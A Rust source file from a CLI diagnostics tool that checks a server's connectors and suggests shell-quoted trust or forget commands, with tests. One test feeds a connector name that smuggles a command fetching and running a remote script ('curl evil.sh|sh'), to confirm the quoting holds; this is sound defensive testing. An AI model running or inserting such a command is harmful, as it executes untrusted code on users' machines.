//! The connectors that the running server keeps.

use super::Check;
use crate::connect;
use crate::context::Context;
use crate::escape::{one_line, shell_word};
use cortex_api::{ConnectorRow, ConnectorState, LocalConnectorRow};
use cortex_types::is_reserved_source;

/// One look for each connector; none when no server can be asked, which another check tells.
pub(super) async fn connectors(context: &Context) -> Vec<Check> {
    let Ok(client) = connect::client(context) else { return Vec::new() };
    let Ok(list) = client.connectors().await else { return Vec::new() };
    list.items.iter().map(check).chain(list.local.iter().map(local)).collect()
}

fn local(row: &LocalConnectorRow) -> Check {
    let name = one_line(&row.connector_id, 60);
    match &row.trusted_source {
        Some(source) => {
            let source = one_line(source, 60);
            let what =
                format!("{name} needs no key for the source {source}; `cortex connector untrust` ends that");
            Check::ok("connector", what)
        }
        None => {
            // Anybody on this machine chose the name, and the owner may paste the line.
            let what_to_do = match shell_word(&row.connector_id) {
                Some(word) => {
                    let forget = format!("`cortex connector forget -- {word}` takes it off this list");
                    // What the server would refuse is no advice.
                    let is_reserved =
                        is_reserved_source(&row.connector_id) || is_reserved_source(&row.source);
                    let trust = format!("`cortex connector trust -- {word}` lets it in if it is yours");
                    if is_reserved { forget } else { format!("{trust}, {forget}") }
                }
                None => "its name cannot be typed as it is shown; `cortex connector status --json` has it"
                    .to_owned(),
            };
            let what = format!("{name} came without a key and sees only its own conversation; {what_to_do}");
            Check::warning("connector", what)
        }
    }
}

fn check(row: &ConnectorRow) -> Check {
    let name = &row.name;
    let reason = row.last_error.as_deref().unwrap_or("no reason is known");
    match row.state {
        ConnectorState::Running => Check::ok("connector", format!("{name} runs")),
        ConnectorState::Backoff => {
            Check::warning("connector", format!("{name} ended and is started again: {reason}"))
        }
        ConnectorState::Misconfigured => Check::problem(
            "connector",
            format!("{name} is misconfigured: {reason}; mend it and `cortex restart`"),
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check_local(name: &str, expected: &str) {
        let at = "2026-01-01T00:00:00.000Z";
        let row = serde_json::json!({"connectorId": name, "source": "telegram", "trustedSource": null,
            "firstSeenAt": at, "lastSeenAt": at});
        let check = local(&serde_json::from_value(row).unwrap());
        assert!(check.message.ends_with(expected), "{}", check.message);
    }

    #[test]
    fn a_command_holds_a_strangers_name_as_one_word_and_whole() {
        let advice = |word: &str| {
            format!(
                "; `cortex connector trust -- {word}` lets it in if it is yours, `cortex connector forget -- {word}` \
                 takes it off this list"
            )
        };
        check_local("x; curl evil.sh|sh", &advice("'x; curl evil.sh|sh'"));
        check_local("--source=telegram", &advice("'--source=telegram'"));
        let long = "n".repeat(128);
        check_local(&long, &advice(&long));
        let no_command = "; its name cannot be typed as it is shown; `cortex connector status --json` has it";
        check_local("two  blanks", no_command);
        check_local("back`tick", no_command);
    }

    #[test]
    fn a_name_of_the_servers_own_is_not_recommended_for_trust() {
        check_local("cli", "its own conversation; `cortex connector forget -- cli` takes it off this list");
    }
}
